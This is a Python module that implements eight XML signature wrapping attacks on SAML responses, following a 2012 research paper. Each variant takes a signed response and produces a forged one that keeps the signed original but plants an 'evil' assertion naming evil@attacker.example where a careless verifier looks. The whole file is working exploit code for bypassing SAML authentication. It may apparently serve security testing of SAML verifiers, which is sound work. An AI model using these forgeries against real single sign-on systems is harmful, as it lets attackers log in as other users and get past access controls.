"""XML signature wrapping, variants 1 to 8 (Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be", 2012).

Each takes a signed response and gives one in which the signed element still stands somewhere, and an evil copy of it stands
where a careless reader looks.
"""

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from lxml import etree

SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
PROTOCOL = "{urn:oasis:names:tc:SAML:2.0:protocol}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"
EVIL = "evil@attacker.example"

Element = Any


def _evil(element: Element, *, signed: bool) -> Element:
    """A copy that names somebody else, under another identifier, with or without the signature."""
    made = deepcopy(element)
    made.set("ID", "_evil")
    for name in made.iter(f"{SAML}NameID"):
        name.text = EVIL
    signature = made.find(f"{DS}Signature")
    if signature is not None and not signed:
        made.remove(signature)
    return made


def _bare(element: Element) -> Element:
    made = deepcopy(element)
    made.remove(made.find(f"{DS}Signature"))
    return made


def _response(root: Element, place: str) -> Element:
    """The original response inside (1) or before (2) the signature of an evil one."""
    evil = _evil(root, signed=True)
    signature = evil.find(f"{DS}Signature")
    if place == "inside":
        signature.append(_bare(root))
    else:
        signature.addprevious(_bare(root))
    return evil


def _assertion(root: Element, place: str) -> Element:
    made = deepcopy(root)
    original = made.find(f"{SAML}Assertion")
    if place == "sibling":
        original.addprevious(_evil(original, signed=False))
    elif place == "child":
        evil = _evil(original, signed=False)
        made.replace(original, evil)
        evil.append(original)
    elif place == "behind":
        evil, bare = _evil(original, signed=True), _bare(original)
        made.replace(original, evil)
        made.append(bare)
    elif place == "in-signature":
        evil, bare = _evil(original, signed=True), _bare(original)
        made.replace(original, evil)
        evil.find(f"{DS}Signature").append(bare)
    elif place == "extensions":
        extensions = etree.Element(f"{PROTOCOL}Extensions")
        extensions.append(_evil(original, signed=False))
        original.addprevious(extensions)
    else:
        evil, bare = _evil(original, signed=True), _bare(original)
        made.replace(original, evil)
        holder = etree.SubElement(evil.find(f"{DS}Signature"), f"{DS}Object")
        holder.append(bare)
    return made


VARIANTS: dict[int, Callable[[Element], Element]] = {
    1: lambda root: _response(root, "inside"),
    2: lambda root: _response(root, "before"),
    3: lambda root: _assertion(root, "sibling"),
    4: lambda root: _assertion(root, "child"),
    5: lambda root: _assertion(root, "behind"),
    6: lambda root: _assertion(root, "in-signature"),
    7: lambda root: _assertion(root, "extensions"),
    8: lambda root: _assertion(root, "object"),
}


def wrapped(document: bytes, variant: int) -> bytes:
    """The document of one variant."""
    found: bytes = etree.tostring(VARIANTS[variant](etree.fromstring(document)))
    return found
